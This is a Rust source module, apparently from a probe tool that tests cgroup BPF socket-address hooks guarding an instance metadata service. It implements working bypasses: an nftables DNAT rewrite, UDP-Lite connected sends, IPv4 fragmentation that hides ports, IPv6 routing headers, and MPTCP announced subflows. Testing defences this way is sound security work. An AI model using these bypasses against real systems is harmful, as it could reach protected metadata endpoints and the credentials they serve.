//! The attacks made with ordinary sockets, where the kernel itself puts a
//! protected destination on the wire after the `sock_addr` hooks decided
//! on something else, or decided nothing at all.

use std::{
    io::{self, Write},
    mem,
    net::{IpAddr, Ipv6Addr, SocketAddr, SocketAddrV6},
    os::fd::{AsRawFd, OwnedFd},
    process::{Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use nix::sys::socket::{SockaddrLike, SockaddrStorage};

use crate::{
    imdsv2::http_flow,
    outcome::{Failure, Outcome, Step, os_failure},
};

const IPPROTO_UDPLITE: libc::c_int = 136;
const IPPROTO_MPTCP: libc::c_int = 262;
/// `SOL_MPTCP` and `MPTCP_SUBFLOW_ADDRS` (include/uapi/linux/mptcp.h).
const SOL_MPTCP: libc::c_int = 284;
const MPTCP_SUBFLOW_ADDRS: libc::c_int = 3;
/// `struct mptcp_subflow_data` is four u32; each `mptcp_subflow_addrs` is a
/// local and a remote `sockaddr_storage`.
const SUBFLOW_DATA_LEN: usize = 16;
const SUBFLOW_ADDRS_LEN: usize = 2 * 128;
/// How long the MPTCP client waits for the kernel to open the announced
/// subflow (it does so from a workqueue, right after the ADD_ADDR).
const SUBFLOW_WAIT: Duration = Duration::from_secs(2);
const DATAGRAM: &[u8] = b"imds-probe";

fn last_error(what: impl std::fmt::Display) -> Failure {
    os_failure(what, io::Error::last_os_error())
}

fn socket(domain: libc::c_int, ty: libc::c_int, proto: libc::c_int) -> Step<OwnedFd> {
    // SAFETY: socket(2) takes no pointers; a non-negative result is a new
    // descriptor that nothing else owns.
    let fd = unsafe { libc::socket(domain, ty | libc::SOCK_CLOEXEC, proto) };
    if fd < 0 {
        return Err(last_error(format!("socket({domain}, {ty}, {proto})")));
    }
    // SAFETY: `fd` was just returned by socket(2) and is owned here only.
    Ok(unsafe { <OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) })
}

fn domain_of(addr: SocketAddr) -> libc::c_int {
    if addr.is_ipv4() {
        libc::AF_INET
    } else {
        libc::AF_INET6
    }
}

fn connect(fd: &OwnedFd, addr: SocketAddr) -> Result<(), io::Error> {
    let sa = SockaddrStorage::from(addr);
    // SAFETY: `sa` outlives the call and the length passed is its own.
    if unsafe { libc::connect(fd.as_raw_fd(), sa.as_ptr(), sa.len()) } == 0 {
        Ok(())
    } else {
        Err(io::Error::last_os_error())
    }
}

fn send(fd: &OwnedFd, data: &[u8], to: Option<SocketAddr>) -> Step<()> {
    let sa = to.map(SockaddrStorage::from);
    let (ptr, len) = sa
        .as_ref()
        .map_or((std::ptr::null(), 0), |s| (s.as_ptr(), s.len()));
    // SAFETY: `data` and `sa` outlive the call; the lengths are theirs.
    let rc = unsafe {
        libc::sendto(
            fd.as_raw_fd(),
            data.as_ptr().cast(),
            data.len(),
            libc::MSG_NOSIGNAL,
            ptr,
            len,
        )
    };
    if rc < 0 {
        return Err(last_error(match to {
            Some(to) => format!("sendto {to}"),
            None => "send".to_owned(),
        }));
    }
    Ok(())
}

fn setsockopt_bytes(
    fd: &OwnedFd,
    level: libc::c_int,
    name: libc::c_int,
    value: &[u8],
) -> io::Result<()> {
    // SAFETY: `value` outlives the call and its length is passed.
    let rc = unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            level,
            name,
            value.as_ptr().cast(),
            value.len() as libc::socklen_t,
        )
    };
    if rc == 0 {
        Ok(())
    } else {
        Err(io::Error::last_os_error())
    }
}

/// `nat`: as root of its own network namespace, map `via` to `target` with
/// an nftables `dnat` in the output hook, then run the IMDSv2 flow to
/// `via`. The connect hook sees `via`; NAT rewrites the destination after
/// it, in `nf_nat_ipv4_local_fn`, and reroutes the packet
/// (`ip_route_me_harder`). The rule is removed again before returning.
pub(crate) fn nat(via: SocketAddr, target: SocketAddr) -> Step<Outcome> {
    let (family, match_dst, to) = match (via.ip(), target) {
        (IpAddr::V4(v), SocketAddr::V4(t)) => ("ip", format!("ip daddr {v}"), t.to_string()),
        (IpAddr::V6(v), SocketAddr::V6(t)) => ("ip6", format!("ip6 daddr {v}"), t.to_string()),
        _ => {
            return Err(Failure {
                errno: None,
                error: format!("nat: {via} and {target} are of different families"),
                body: String::new(),
            });
        }
    };
    let table = format!("{family} imds_probe_nat");
    let script = format!(
        "add table {table}\n\
         add chain {table} out {{ type nat hook output priority -100; policy accept; }}\n\
         add rule {table} out {match_dst} tcp dport {} dnat to {to}\n",
        via.port()
    );
    nft(&script)?;
    let result = http_flow(via);
    nft(&format!("delete table {table}\n"))?;
    result
}

/// Runs `nft -f -` on `script` in the probe's namespaces, as the probe.
fn nft(script: &str) -> Step<()> {
    let fail = |error: String| Failure {
        errno: None,
        error,
        body: String::new(),
    };
    let mut child = Command::new("nft")
        .args(["-f", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| os_failure("running nft", e))?;
    if let Some(mut stdin) = child.stdin.take() {
        stdin
            .write_all(script.as_bytes())
            .map_err(|e| os_failure("writing to nft", e))?;
    }
    let out = child
        .wait_with_output()
        .map_err(|e| os_failure("waiting for nft", e))?;
    if out.status.success() {
        Ok(())
    } else {
        Err(fail(format!(
            "nft -f - ({}): {}\n{script}",
            out.status,
            String::from_utf8_lossy(&out.stderr).trim()
        )))
    }
}

/// `udplite`: `connect()` then `send()` on a UDP-Lite socket. UDP-Lite
/// shares `udp_sendmsg` with UDP, but its `struct proto` has no
/// `pre_connect`, which is where the connect hooks run
/// (`BPF_CGROUP_PRE_CONNECT_ENABLED` in `__inet_stream_connect` /
/// `inet_dgram_connect`), and a connected socket's sends skip the sendmsg
/// hooks.
pub(crate) fn udplite(dst: SocketAddr) -> Step<Outcome> {
    let fd = socket(domain_of(dst), libc::SOCK_DGRAM, IPPROTO_UDPLITE)?;
    connect(&fd, dst).map_err(|e| os_failure(format!("connect (UDP-Lite) {dst}"), e))?;
    send(&fd, DATAGRAM, None)?;
    Ok(Outcome::default())
}

/// `fragments`: one UDP datagram to `dst` (IPv4) in two fragments, sent
/// from a raw socket (`IPPROTO_RAW`, so `IP_HDRINCL`; needs
/// `CAP_NET_RAW`), the first with the UDP header and its port, the second
/// with none: a program that reads ports sees only the first one's. The
/// service receives the datagram only when both arrive. The source is
/// left 0, which the kernel fills in.
pub(crate) fn fragments(dst: SocketAddr) -> Step<Outcome> {
    let SocketAddr::V4(dst) = dst else {
        return Err(Failure {
            errno: None,
            error: format!("fragments: {dst} is not IPv4"),
            body: String::new(),
        });
    };
    let fd = socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)?;
    // UDP header (checksum 0: none) and 24 bytes: 32 in all, split after
    // 16 (two 8-byte units).
    let mut udp = Vec::new();
    udp.extend_from_slice(&4242u16.to_be_bytes());
    udp.extend_from_slice(&dst.port().to_be_bytes());
    udp.extend_from_slice(&32u16.to_be_bytes());
    udp.extend_from_slice(&[0, 0]);
    udp.extend_from_slice(b"imds-probe fragmented....");
    udp.truncate(32);
    let id = (std::process::id() & 0xffff) as u16;
    let header = |more: bool, offset_units: u16, len: usize| {
        let frag = offset_units | if more { 0x2000 } else { 0 };
        let mut h = vec![0x45, 0];
        h.extend_from_slice(&((20 + len) as u16).to_be_bytes());
        h.extend_from_slice(&id.to_be_bytes());
        h.extend_from_slice(&frag.to_be_bytes());
        h.extend_from_slice(&[64, 17, 0, 0, 0, 0, 0, 0]);
        h.extend_from_slice(&dst.ip().octets());
        h
    };
    let to = SocketAddr::V4(std::net::SocketAddrV4::new(*dst.ip(), 0));
    let mut notes = Vec::new();
    for (what, more, offset, part) in [
        ("first fragment", true, 0, &udp[..16]),
        ("second fragment", false, 2, &udp[16..]),
    ] {
        let mut packet = header(more, offset, part.len());
        packet.extend_from_slice(part);
        send(&fd, &packet, Some(to)).map_err(|mut f| {
            f.error = format!("{what}: {}", f.error);
            f
        })?;
        notes.push(what);
    }
    Ok(Outcome {
        note: format!("sent the {}", notes.join(" and the ")),
        ..Outcome::default()
    })
}

/// An IPv6 routing header naming `segment`, in the first form this kernel
/// accepts from an unprivileged socket, with its name.
fn routing_headers(segment: Ipv6Addr) -> [(&'static str, Vec<u8>); 2] {
    let mut type2 = vec![0, 2, 2, 1, 0, 0, 0, 0];
    type2.extend_from_slice(&segment.octets());
    // Segment routing header (RFC 8754), one segment, segments left 0: the
    // kernel sends to segments[segments_left] and writes the socket's own
    // destination into the header's segments[0] (`ipv6_push_rthdr4`).
    let mut type4 = vec![0, 2, 4, 0, 0, 0, 0, 0];
    type4.extend_from_slice(&segment.octets());
    [
        ("type 2 (Mobile IPv6)", type2),
        ("type 4 (segment routing)", type4),
    ]
}

/// `rthdr`: a UDP datagram and a TCP SYN to `dst` from sockets carrying a
/// sticky `IPV6_RTHDR` whose segment is `segment`. The hooks see `dst`;
/// `fl6_update_dst` then routes to the segment and the packet leaves with
/// it as its destination. `IPV6_RTHDR` needs no capability (the
/// `CAP_NET_RAW` check in `do_ipv6_setsockopt` exempts it).
pub(crate) fn rthdr(dst: SocketAddrV6, segment: Ipv6Addr) -> Step<Outcome> {
    let udp = socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    let mut refused = Vec::new();
    let mut chosen = None;
    for (name, header) in routing_headers(segment) {
        match setsockopt_bytes(&udp, libc::IPPROTO_IPV6, libc::IPV6_RTHDR, &header) {
            Ok(()) => {
                chosen = Some((name, header));
                break;
            }
            Err(e) => refused.push(format!("{name}: {e}")),
        }
    }
    let Some((name, header)) = chosen else {
        return Err(Failure {
            errno: Some(libc::EINVAL),
            error: format!("every routing header was refused: {}", refused.join("; ")),
            body: String::new(),
        });
    };
    send(&udp, DATAGRAM, Some(dst.into()))?;
    let tcp = socket(libc::AF_INET6, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    setsockopt_bytes(&tcp, libc::IPPROTO_IPV6, libc::IPV6_RTHDR, &header)
        .map_err(|e| os_failure("IPV6_RTHDR on the TCP socket", e))?;
    match connect(&tcp, dst.into()) {
        Err(e) if e.raw_os_error() == Some(libc::EINPROGRESS) => {}
        Err(e) => return Err(os_failure(format!("connect {dst}"), e)),
        Ok(()) => {}
    }
    // Let the SYN leave before the socket closes.
    thread::sleep(Duration::from_millis(50));
    let note = if refused.is_empty() {
        format!("routing header {name}")
    } else {
        format!("routing header {name}; refused: {}", refused.join("; "))
    };
    Ok(Outcome {
        note,
        ..Outcome::default()
    })
}

/// `mptcp-add-addr`: an MPTCP connection to `server`, one message, then
/// wait for the subflows the in-kernel path manager opens to addresses the
/// server announces (ADD_ADDR). It opens them from a kworker
/// (`mptcp_worker` → `__mptcp_subflow_connect`), so any connect hook that
/// runs for them sees the kworker's credentials, not the probe's.
pub(crate) fn mptcp_add_addr(server: SocketAddr) -> Step<Outcome> {
    let fd = socket(domain_of(server), libc::SOCK_STREAM, IPPROTO_MPTCP)?;
    connect(&fd, server).map_err(|e| os_failure(format!("connect (MPTCP) {server}"), e))?;
    send(&fd, DATAGRAM, None)?;
    // The kworker runs late on a slow (emulated) machine: scaled.
    let deadline = Instant::now() + crate::slowdown::scaled(SUBFLOW_WAIT);
    let mut remotes = subflow_remotes(&fd)?;
    while remotes.len() < 2 && Instant::now() < deadline {
        thread::sleep(Duration::from_millis(20));
        remotes = subflow_remotes(&fd)?;
    }
    Ok(Outcome {
        subflows: remotes,
        ..Outcome::default()
    })
}

/// The remote address of every subflow of an MPTCP socket, the initial one
/// first (`MPTCP_SUBFLOW_ADDRS`, Linux 5.16).
fn subflow_remotes(fd: &OwnedFd) -> Step<Vec<SocketAddr>> {
    const MAX: usize = 8;
    let mut buf = vec![0u8; SUBFLOW_DATA_LEN + MAX * SUBFLOW_ADDRS_LEN];
    buf[0..4].copy_from_slice(&(SUBFLOW_DATA_LEN as u32).to_ne_bytes());
    buf[12..16].copy_from_slice(&(SUBFLOW_ADDRS_LEN as u32).to_ne_bytes());
    let mut len = buf.len() as libc::socklen_t;
    // SAFETY: `buf` is writable for `len` bytes, which the kernel updates.
    let rc = unsafe {
        libc::getsockopt(
            fd.as_raw_fd(),
            SOL_MPTCP,
            MPTCP_SUBFLOW_ADDRS,
            buf.as_mut_ptr().cast(),
            &mut len,
        )
    };
    if rc != 0 {
        return Err(last_error("getsockopt(MPTCP_SUBFLOW_ADDRS)"));
    }
    let count = u32::from_ne_bytes([buf[4], buf[5], buf[6], buf[7]]) as usize;
    Ok((0..count.min(MAX))
        .filter_map(|i| {
            let at = SUBFLOW_DATA_LEN + i * SUBFLOW_ADDRS_LEN + 128;
            sockaddr_at(&buf[at..at + 128])
        })
        .collect())
}

/// Decodes a `sockaddr_in`/`sockaddr_in6` at the start of `raw`.
fn sockaddr_at(raw: &[u8]) -> Option<SocketAddr> {
    // SAFETY: sockaddr_storage is plain data for which all-zero is valid.
    let mut ss: libc::sockaddr_storage = unsafe { mem::zeroed() };
    let n = raw.len().min(size_of::<libc::sockaddr_storage>());
    // SAFETY: at most size_of::<sockaddr_storage>() bytes are copied into it.
    unsafe { std::ptr::copy_nonoverlapping(raw.as_ptr(), (&raw mut ss).cast::<u8>(), n) };
    // SAFETY: `ss` is a whole sockaddr_storage, which is what the length says.
    let sa = unsafe {
        SockaddrStorage::from_raw(
            (&raw const ss).cast(),
            Some(size_of::<libc::sockaddr_storage>() as u32),
        )
    }?;
    if let Some(v4) = sa.as_sockaddr_in() {
        Some(SocketAddr::new(v4.ip().into(), v4.port()))
    } else {
        sa.as_sockaddr_in6()
            .map(|v6| SocketAddr::new(v6.ip().into(), v6.port()))
    }
}
